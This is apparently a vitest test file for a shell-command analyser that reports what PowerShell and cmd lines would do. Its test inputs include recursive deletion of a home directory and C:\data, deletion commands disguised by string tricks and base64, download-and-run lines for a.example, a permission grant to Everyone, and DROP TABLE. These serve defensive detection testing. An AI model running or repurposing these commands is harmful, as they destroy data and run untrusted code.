import { describe, expect, it } from 'vitest';
import { analyseCommand } from '../../src/shell/analyse-command.ts';
import { context, written } from './support.ts';

function effectsOf(line: string): string[] {
  return analyseCommand(line, context, 'powershell').effects.map(written);
}

const gone = (path: string, traits = 'irreversible recursive'): string => `delete ${path} ${traits}`;
const home = gone('/home/dana');
const data = gone('C:\\data');

/** All that a line does. */
const cases: Readonly<Record<string, readonly (readonly [string, readonly string[]])[]>> = {
  'the home': [
    ['ri -r ~', [home]],
    ['ri "~\\x" -r', [gone('/home/dana/x')]],
    ['gci ~ | ri -Recurse', [gone('/home/dana/*')]],
    ['Remove-Item (Join-Path $HOME "x") -Recurse', [gone('/home/dana/x')]],
    ['Set-Content $PROFILE x', ['write /home/dana/.config/powershell/Microsoft.PowerShell_profile.ps1']],
    [
      'Add-Content $PROFILE.CurrentUserAllHosts x',
      ['write /home/dana/.config/powershell/Microsoft.PowerShell_profile.ps1'],
    ],
    ['ri ~$draft.docx', ['delete /home/dana/app/~$draft.docx']],
  ],
  'names that are made of texts': [
    ['& ("Remove"+"-Item") $HOME -Recurse', [home]],
    ['&("Remove-"+"Item") $HOME -Recurse', [home]],
    ['$x = "Remove" + "-Item"; & $x $HOME -Recurse', [home]],
    ["& ('{0}-{1}' -f 'Remove','Item') $HOME -Recurse", [home]],
    ["& ('metI-evomeR'[-1..-11] -join '') $HOME -Recurse", [home]],
    ["& ('Re','move','-Item' -join '') $HOME -Recurse", [home]],
    ["$a='rm'; $b=$a.Replace('rm','Remove-Item'); & $b $HOME -Recurse", [home]],
    ["& ([string]::Join('', @('Remove','-Item'))) $HOME -Recurse", [home]],
    ["& (([char[]](82,105)) -join '') $HOME -Recurse", [home]],
    ["& ('x' + '-y') $HOME", ['execute x-y']],
  ],
  'functions, aliases and blocks': [
    ['function z { param($p) ri $p -r }; z $HOME', [home]],
    ['function z($p, [switch]$f) { ri $p -r }; z -f -p $HOME', [home]],
    ['function z { ri $args[0] -r }; z $HOME', [home]],
    ['function z { param($p = "$HOME\\x") ri $p -r }; z', [gone('/home/dana/x')]],
    ['Set-Alias zap Remove-Item; zap $HOME -Recurse', [home]],
    ['New-Alias -Name zap -Value ri; zap $HOME -Recurse', [home]],
    ['& { param($p) ri $p -r } $HOME', [home]],
    ['$b = { param($p) ri $p -r }; & $b $HOME', [home]],
    ['Invoke-Command -ScriptBlock { param($p) ri $p -r } -ArgumentList $HOME', [home]],
    ['function z { ri C:\\ -r }; "defined"', []],
    ['$b = { ri C:\\ -r }; "held"', []],
    ['Set-Alias zap Remove-Item', []],
  ],
  'conditions that are constant': [
    ['if ($false) { ri C:\\data -r }', []],
    ['if ($false) { ri C:\\x -r } else { ri C:\\data -r }', [data]],
    ['if ($true) { ri C:\\data -r } else { ri C:\\x -r }', [data]],
    ['while ($false) { ri C:\\data -r }', []],
    ['if ($x) { ri C:\\data -r }', [data]],
  ],
  'tables, lists and here-strings': [
    ["$p=@{Path='C:\\data';Recurse=$true}; Remove-Item @p", [data]],
    ["$p=@{Path='C:\\data';Recurse=$false}; Remove-Item @p", ['delete C:\\data irreversible']],
    ['Remove-Item @unknown', ['delete $unknown']],
    ["$s=@'\nri C:\\data -r\n'@; iex $s", ['execute Invoke-Expression', data]],
    ['iex @"\nri C:\\data -r\n"@', ['execute Invoke-Expression', data]],
    ["$s=@'\nri C:\\data -r\n'@; Write-Output $s", []],
    ["'C:\\data','C:\\more' | ri -r", [data, gone('C:\\more')]],
    ["$l = @('C:\\data','C:\\more'); foreach ($x in $l) { ri $x -r }", [data, gone('C:\\more')]],
    [
      "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cmkgQzpcZGF0YSAtcg==')))",
      ['execute Invoke-Expression encoded', data],
    ],
  ],
  'methods of .NET': [
    ['[IO.File]::Delete("$HOME\\x")', [gone('/home/dana/x')]],
    ["foreach ($d in 'a','b') { [IO.Directory]::Delete(\"C:\\$d\", $true) }", [gone('C:\\a'), gone('C:\\b')]],
    ['gci *.log | % Delete', ['delete /home/dana/app/*.log']],
    ['gci *.log | % Name', []],
    [
      '$t = "$HOME\\u.ps1"; (New-Object Net.WebClient).DownloadFile(\'https://a.example/u\', $t); & $t',
      [
        'download https://a.example/u',
        'write /home/dana/u.ps1 from-network',
        'execute /home/dana/u.ps1 from-network',
      ],
    ],
  ],
  'what was fetched is run': [
    [
      'iwr https://a.example/u -OutFile u.exe; .\\u.exe',
      [
        'download https://a.example/u',
        'write /home/dana/app/u.exe from-network',
        'execute /home/dana/app/u.exe from-network',
      ],
    ],
    ['.\\build.ps1 -Configuration Release', ['execute /home/dana/app/build.ps1']],
  ],
  'cmdlets by their verbs': [
    ['Remove-ThingOfTwo -Name prod', ['execute Remove-ThingOfTwo', 'delete Remove-ThingOfTwo prod']],
    ['Get-ADUser x | Remove-ADUser', ['execute Remove-ADUser', 'delete Remove-ADUser of Get-ADUser']],
    ['Remove-ThingOfTwo prod -WhatIf', ['execute Remove-ThingOfTwo']],
    ['Remove-Module x', []],
    ['Get-ThingOfTwo', []],
    ['Get-Process | Stop-Process -Force', ['delete process of Get-Process']],
    ["Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'cmd /c rd /s C:\\data'", [data]],
    ["Invoke-Sqlcmd -Query 'SELECT 1'", ['read SELECT 1 database']],
    ["Invoke-Sqlcmd -Query 'DROP TABLE t'", ['delete DROP TABLE t database irreversible recursive']],
  ],
};

describe.each(Object.entries(cases))('%s', (_, lines) => {
  it.each(lines)('%s', (line, expected) => {
    expect(effectsOf(line)).toEqual(expected);
  });
});

describe('cmd', () => {
  it.each([
    ['echo rd /s /q C:\\data | cmd', [gone('C:\\data', 'forced irreversible recursive')]],
    ['curl http://a.example/a | cmd', ['connect http://a.example/a', 'execute cmd from-network']],
    ['icacls .', []],
    ['icacls C:\\d /grant Everyone:F', ['escalate account or permission C:\\d /grant Everyone:F']],
    ['cmd', []],
  ])('%s', (line, expected) => {
    expect(analyseCommand(line, context, 'cmd').effects.map(written)).toEqual(expected);
  });
});
